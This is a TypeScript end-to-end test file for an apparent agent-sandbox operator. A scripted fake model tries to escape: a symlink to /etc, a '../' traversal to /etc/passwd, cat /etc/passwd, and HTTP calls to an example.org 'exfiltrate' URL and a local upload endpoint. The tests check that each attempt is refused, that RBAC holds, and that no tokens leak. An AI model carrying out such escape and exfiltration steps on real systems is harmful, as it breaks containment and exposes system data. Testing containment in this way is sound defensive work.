// What an agent cannot do, end to end: the operator as `agentlab run` starts it, the node
// simulator running the real agent-runner image, the lane router and its egress proxy, and a
// scripted model that asks for what its allow-lists refuse. Each refusal must reach the transcript
// ConfigMap and status.usage.toolErrors; a private lane gets nothing out to a cloud provider.
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ScriptRule } from '../../hack/fakes/index.js';
import { useCluster } from '../harness/cluster.js';
import { TOOL_RULES } from '../lanes/support.js';
import { condition, startAgentRunFixture, type AgentRunFixture } from './support.js';

const cluster = useCluster();
let f: AgentRunFixture;
/** An http server the agent's allow-list names: nothing may reach it from a private lane. */
let destination: http.Server;
let destinationHits = 0;
let destinationUrl = '';
/** A namespace the kubernetes tool lists, whose grant an admin revokes while the run is going. */
let other = '';

interface Line { type: string; name?: string; ok?: boolean; error?: { code: string; message: string }; args?: string }

const rule = (when: string, steps: { name: string; arguments: Record<string, unknown> }[], reply: string): ScriptRule =>
  ({ when, steps: steps.map((c) => ({ toolCalls: [c] })), reply });

beforeAll(async () => {
  destination = http.createServer((_req, res) => {
    destinationHits++;
    res.end('private data leaves here');
  });
  await new Promise<void>((r) => destination.listen(0, '127.0.0.1', r));
  destinationUrl = `http://127.0.0.1:${(destination.address() as AddressInfo).port}`;
  other = await cluster.newNamespace('contain-other');
  f = await startAgentRunFixture(cluster);
  f.lanes.ollama.setRules([
    rule('contain-e2e: escape', [
      // The shell may run ln: it plants a symlink to /etc inside the workspace.
      { name: 'run_command', arguments: { argv: ['ln', '-s', '/etc', 'etc-link'] } },
      { name: 'read_file', arguments: { path: 'etc-link/passwd' } },
      { name: 'read_file', arguments: { path: '../../../../etc/passwd' } },
      { name: 'run_command', arguments: { argv: ['cat', '/etc/passwd'] } },
      { name: 'http_request', arguments: { url: 'http://example.org/exfiltrate', method: 'GET' } },
      // Allowed by the run's allowHosts, refused by the router: a private lane has no http egress.
      { name: 'http_request', arguments: { url: `${destinationUrl}/upload`, method: 'GET' } },
    ], 'Nothing could be read or sent. Last: {{lastToolResult}}'),
    { ...rule('contain-e2e: kube', [
      { name: 'kubernetes_read', arguments: { resource: 'configmaps' } },
      { name: 'kubernetes_read', arguments: { resource: 'configmaps', namespace: other } },
      { name: 'kubernetes_read', arguments: { resource: 'configmaps', namespace: 'kube-system' } },
    ], 'Read what RBAC allows. Last: {{lastToolResult}}'), delayMs: 1500 },
    ...TOOL_RULES,
  ]);
});
afterAll(async () => {
  await new Promise((r) => destination?.close(r));
});

async function transcript(name: string): Promise<Line[]> {
  const cm = await cluster.core.readNamespacedConfigMap({ namespace: f.ns, name: `${name}-transcript` });
  return cm.data!['transcript.jsonl'].trim().split('\n').map((l) => JSON.parse(l) as Line);
}

describe.runIf(cluster.nodeSimulator)('tools outside their allow-lists', () => {
  it('refuses a symlink and a .. escape, a command and hosts not allowed; each refusal in the transcript and toolErrors', async () => {
    const tools = [
      { name: 'files', files: { paths: ['/workspace'] } },
      { name: 'shell', shell: { allowCommands: ['ln', 'ls'] } },
      { name: 'http', http: { allowHosts: [new URL(destinationUrl).host], methods: ['GET'] } },
    ];
    await f.apply('escape', { task: 'contain-e2e: escape the sandbox', model: 'chat', tools, limits: { maxTurns: 10 } });
    const run = await f.waitForPhase('escape', ['Succeeded', 'Failed', 'Cancelled'], 90_000);
    expect(run.status?.phase, JSON.stringify(run.status)).toBe('Succeeded');
    expect(run.status?.usage).toMatchObject({ turns: 7, toolCalls: 6, toolErrors: 5 });

    const results = (await transcript('escape')).filter((l) => l.type === 'tool_result');
    expect(results.map((r) => [r.name, r.ok, r.error?.code])).toEqual([
      ['run_command', true, undefined],
      ['read_file', false, 'Forbidden'],
      ['read_file', false, 'Forbidden'],
      ['run_command', false, 'Forbidden'],
      ['http_request', false, 'Forbidden'],
      ['http_request', false, 'Forbidden'],
    ]);
    expect(results[3].error?.message).toContain('cat');
    expect(results[4].error?.message).toContain('example.org');
    // The router's own refusal, not the runner's: the request reached the egress proxy and stopped there.
    expect(results[5].error?.message).toMatch(/^the egress proxy refused GET .*\/upload: 403 lane \S+ is private \(allowCloud: false\): http egress is refused/);
    expect(destinationHits).toBe(0);
    expect(JSON.stringify(results)).not.toContain('root:x:0:0');
  }, 150_000);
});

describe.runIf(cluster.nodeSimulator)('the kubernetes tool: RBAC on the run\'s own ServiceAccount', () => {
  it("reads what its Role grants; a namespace whose grant is gone gets the API server's 403 in the transcript; an unlisted one is refused by the runner", async () => {
    await f.apply('kube-reader', { task: 'contain-e2e: kube', model: 'chat', tools: [{ name: 'kubernetes', kubernetes: { resources: ['configmaps'], namespaces: [f.ns, other] } }], limits: { maxTurns: 10 } });
    await f.waitForPhase('kube-reader', ['Running']);
    // The controller bound the run's ServiceAccount in both namespaces; an admin revokes the grant in the other one.
    const grant = `/apis/rbac.authorization.k8s.io/v1/namespaces/${other}/rolebindings/agentrun-${f.ns}-kube-reader`;
    expect((await cluster.request({ path: grant })).status).toBe(200);
    expect((await cluster.request({ method: 'DELETE', path: grant })).status).toBe(200);
    const run = await f.waitForPhase('kube-reader', ['Succeeded', 'Failed', 'Cancelled'], 90_000);
    expect(run.status?.phase, JSON.stringify(run.status)).toBe('Succeeded');
    expect(run.status?.usage).toMatchObject({ toolCalls: 3, toolErrors: 2 });
    const results = (await transcript('kube-reader')).filter((l) => l.type === 'tool_result');
    expect(results.map((r) => [r.ok, r.error?.code])).toEqual([[true, undefined], [false, 'Forbidden'], [false, 'InvalidArguments']]);
    // The pod called the API server as its own ServiceAccount, not as the simulator or the operator.
    expect(results[1].error?.message).toContain(`configmaps is forbidden: User "system:serviceaccount:${f.ns}:kube-reader-agent" cannot list resource "configmaps" in API group "" in the namespace "${other}"`);
    const pod = await cluster.core.readNamespacedPod({ namespace: f.ns, name: 'kube-reader-agent' });
    expect(pod.spec).toMatchObject({ serviceAccountName: 'kube-reader-agent', automountServiceAccountToken: true });
  }, 150_000);
});

describe.runIf(cluster.nodeSimulator)('a private-lane run asking for a cloud model', () => {
  const cloud = () => [f.lanes.anthropic, f.lanes.gemini].reduce((n, s) => n + s.requests.length, 0);
  const cloudBytes = () => [f.lanes.anthropic, f.lanes.gemini].reduce((n, s) => n + s.requests.reduce((b, q) => b + Buffer.byteLength(q.body ?? ''), 0), 0);

  it('is Stalled ModelNotInLane before it starts: no pod, no token, nothing at a cloud provider', async () => {
    const [before, bytes] = [cloud(), cloudBytes()];
    await f.apply('cloud-model', { task: 'Summarise my bank statement.', model: 'claude-sonnet' });
    await cluster.kubectl(['-n', f.ns, 'wait', '--for=condition=Stalled', 'agentrun/cloud-model', '--timeout=60s']);
    const run = await f.get('cloud-model');
    expect(run.status?.phase).toBe('Pending');
    expect(condition(run, 'Stalled')).toMatchObject({ reason: 'ModelNotInLane', message: expect.stringContaining('spec.model') });
    expect((await cluster.request({ path: `/api/v1/namespaces/${f.ns}/pods/cloud-model-agent` })).status).toBe(404);
    expect((await cluster.request({ path: `/api/v1/namespaces/${f.ns}/secrets/cloud-model-router-token` })).status).toBe(404);
    expect([cloud(), cloudBytes()]).toEqual([before, bytes]);
  }, 90_000);

  it("a runner that asks anyway, with its run's token, gets the router's refusal and zero bytes reach the cloud", async () => {
    // A run of the private lane, held at its first model call: its token is live.
    f.lanes.ollama.setFaults({ firstTokenDelayMs: 4000 });
    try {
      await f.apply('asks-anyway', { task: 'Say hello.', model: 'chat' });
      await f.waitForPhase('asks-anyway', ['Running']);
      const secret = await cluster.core.readNamespacedSecret({ namespace: f.ns, name: 'asks-anyway-router-token' });
      const token = Buffer.from(secret.data!.token, 'base64').toString();
      const [before, bytes] = [cloud(), cloudBytes()];
      for (const model of ['claude-sonnet', 'claude-sonnet-4-5', 'gemini-2.5-flash']) {
        const r = await f.lanes.post('/v1/chat/completions', token, { model, messages: [{ role: 'user', content: 'My bank statement says...' }], stream: true });
        expect(r.status, model).toBe(404);
        expect(((await r.json()) as { error: { code: string; message: string } }).error).toMatchObject({ code: 'model_not_found', message: expect.stringContaining(`not found in lane ${f.lanes.lane('private')}`) });
      }
      expect([cloud(), cloudBytes()]).toEqual([before, bytes]);
    } finally {
      f.lanes.ollama.setFaults({});
    }
    expect((await f.waitForPhase('asks-anyway', ['Succeeded', 'Failed', 'Cancelled'], 60_000)).status?.phase).toBe('Succeeded');
  }, 120_000);
});

describe.runIf(cluster.nodeSimulator)('no secret anywhere', () => {
  it("a run's token and the provider API keys appear in no status, event, transcript, pod log or operator/router log line", async () => {
    // The personal lane goes to the (fake) cloud providers with their API keys; the run uses its token for model calls and the egress proxy.
    const ns = f.lanes.ns.personal;
    // (The built-in triage script: list, read, run git; its http step needs a host on the internet, so no http tool here.)
    await f.apply('secret-scan', { task: 'Triage issue #7 in the workspace.', model: 'chat', tools: [{ name: 'files', files: { paths: ['/workspace'], readOnly: true } }, { name: 'shell', shell: { allowCommands: ['git'] } }] }, ns);
    const run = await f.waitForPhase('secret-scan', ['Succeeded', 'Failed', 'Cancelled'], 90_000, ns);
    expect(run.status?.phase, JSON.stringify(run.status)).toBe('Succeeded');
    await cluster.waitFor(async () => ((await f.get('secret-scan', ns)).status?.usage?.totalTokens ?? 0) > 0, { timeoutMs: 40_000, what: 'usage from the router' });
    const secret = await cluster.core.readNamespacedSecret({ namespace: ns, name: 'secret-scan-router-token' });
    const token = Buffer.from(secret.data!.token, 'base64').toString();
    // The escape run above presented its token to the egress proxy as Proxy-Authorization.
    const proxied = await cluster.core.readNamespacedSecret({ namespace: f.ns, name: 'escape-router-token' });
    const needles = [token, secret.data!.token, Buffer.from(proxied.data!.token, 'base64').toString(), proxied.data!.token, 'sk-ant-test', Buffer.from('sk-ant-test').toString('base64'), 'gemini-test', Buffer.from('gemini-test').toString('base64')];

    const json = async (path: string) => JSON.stringify((await cluster.request({ path })).json());
    const haystacks: Record<string, string> = {
      'AgentRun (status)': JSON.stringify(await f.get('secret-scan', ns)),
      'pod (status, termination message)': await json(`/api/v1/namespaces/${ns}/pods/secret-scan-agent`),
      'events of the run namespace': await json(`/api/v1/namespaces/${ns}/events`),
      'events of the router namespace': await json(`/api/v1/namespaces/${f.lanes.routerNs}/events`),
      'ConfigMaps of the run (config, transcript)': await json(`/api/v1/namespaces/${ns}/configmaps?labelSelector=agentlab.dev/run%3Dsecret-scan`),
      'ConfigMaps of the router namespace (usage)': await json(`/api/v1/namespaces/${f.lanes.routerNs}/configmaps`),
      'LanePolicies (status)': await json('/apis/agentlab.dev/v1alpha1/lanepolicies'),
      'pod log': (await cluster.kubectl(['-n', ns, 'logs', 'secret-scan-agent'])).stdout,
      'operator log': f.operatorLogs.join(''),
      'router log': f.lanes.routerLogs.join(''),
    };
    // The scan would be empty-handed if these were empty: each holds what it should.
    expect(haystacks['pod log']).toContain('"type":"tool_result"');
    expect(haystacks['ConfigMaps of the run (config, transcript)']).toContain('transcript.jsonl');
    expect(haystacks['operator log']).toContain('secret-scan');
    expect(haystacks['router log']).toContain('secret-scan');
    expect(haystacks['router log']).toContain('escape'); // the egress proxy's line for the escape run
    expect(haystacks['events of the run namespace']).toContain('secret-scan');
    const hits = Object.entries(haystacks).flatMap(([where, text]) => needles.map((n, i) => (text.includes(n) ? `${where} contains needle ${i}` : '')).filter(Boolean));
    expect(hits).toEqual([]);
  }, 150_000);
});
